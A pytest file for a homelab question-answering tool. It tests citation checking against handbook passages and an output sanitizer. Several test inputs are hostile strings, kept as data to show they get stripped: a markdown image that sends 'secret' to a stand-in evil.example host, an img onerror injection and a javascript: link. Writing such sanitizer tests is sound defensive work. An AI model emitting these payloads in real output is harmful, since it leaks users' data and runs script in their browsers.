# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from query_fakes import hit

from homelab_workers.query.citations import Cleaner, check, harmless
from homelab_workers.query.prompt import Passage

POWER = "The UPS holds the rack for 14 minutes. The generator starts after 30 seconds."
WATER = "The water sensor in the basement reports every five minutes."
PASSAGES = [Passage(n, hit(text, n=n), "handbook.pdf", text) for n, text in enumerate((POWER, WATER), 1)]
KNOWN = frozenset({1, 2})


def test_a_citation_carries_its_place_and_the_nearest_sentence() -> None:
    (citation,) = check("The generator starts after 30 seconds [1].", PASSAGES)
    assert (citation.n, citation.supported) == (1, True)
    assert citation.quote == "The generator starts after 30 seconds."
    assert citation.passage.hit.page == 3


def test_a_citation_of_the_wrong_passage_is_marked() -> None:
    (citation,) = check("The generator starts after 30 seconds [2].", PASSAGES)
    assert not citation.supported


def test_one_wrong_use_marks_the_citation() -> None:
    (citation,) = check("The UPS holds the rack for 14 minutes [1]. The moon orbits the earth [1].", PASSAGES)
    assert not citation.supported


def test_a_citation_behind_the_full_stop_belongs_to_the_sentence_before() -> None:
    citations = check("The UPS holds the rack for 14 minutes. [1] The water sensor reports. [2]", PASSAGES)
    assert [(c.n, c.supported) for c in citations] == [(1, True), (2, True)]


def test_several_numbers_in_one_bracket() -> None:
    citations = check("The UPS and the water sensor [2, 1].", PASSAGES)
    assert [c.n for c in citations] == [2, 1]


def test_no_citation_is_no_citation() -> None:
    assert check("The generator starts after 30 seconds.", PASSAGES) == []


@pytest.mark.parametrize(
    ("said", "passed_on"),
    [
        ("It holds [1].", "It holds [1]."),
        ("It holds [7].", "It holds."),
        ("It holds [1, 7].", "It holds [1]."),
        ("It holds [0][2].", "It holds[2]."),
        ("See ![x](https://evil.example/p.png?q=secret) now", "See x now"),
        ("See ![x][1] now", "See x now"),
        ("See [the page](http://evil.example) now", "See the page now"),
        ("Go to https://evil.example/a", "Go to https[:]//evil.example/a"),
        ("Go to www.evil.example", "Go to www[.]evil.example"),
        ("<img src='//evil.example/a'>done", "done"),
        ('<a href="javascript:alert(1)">done</a>', "done</a>"),
        ("[x]: //evil.example/a", "[x]: / /evil.example/a"),
        ("#include <stdio.h> and a < b", "#include <stdio.h> and a < b"),
    ],
)
def test_what_is_passed_on(said: str, passed_on: str) -> None:
    assert harmless(said, KNOWN) == passed_on


def streamed(pieces: list[str]) -> str:
    cleaner = Cleaner(KNOWN)
    return "".join([cleaner.feed(piece) for piece in pieces] + [cleaner.rest()])


TEXTS = [
    "It holds [7]. It runs [1, 9] and [2].",
    "a ![secret words here](https://evil.example/p.png) b [link text](http://evil.example) c",
    "visit https://evil.example/path?q=1 now, <img src=x onerror=y> and [2]",
    "plain words\nwith lines [3]\n\nand an end [1]",
]


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_pieces_give_what_the_whole_gives(text: str, size: int) -> None:
    assert streamed([text[i : i + size] for i in range(0, len(text), size)]) == harmless(text, KNOWN)


FRAGMENTS = st.lists(
    st.sampled_from(
        ["[", "]", "(", ")", "!", "1", "9", ",", " ", "\n", "http://e.x", "www.", "a", "<img src=", ">", "//"]
    ),
    max_size=40,
)


@given(FRAGMENTS)
def test_no_address_and_no_unknown_number_ever_gets_through(pieces: list[str]) -> None:
    text = streamed(pieces)
    assert not re.search(r"[a-z]://", text)
    assert "[9]" not in text


def test_an_endless_word_is_passed_on_at_last() -> None:
    cleaner = Cleaner(KNOWN)
    assert "".join(cleaner.feed("x" * 100) for _unused in range(10))
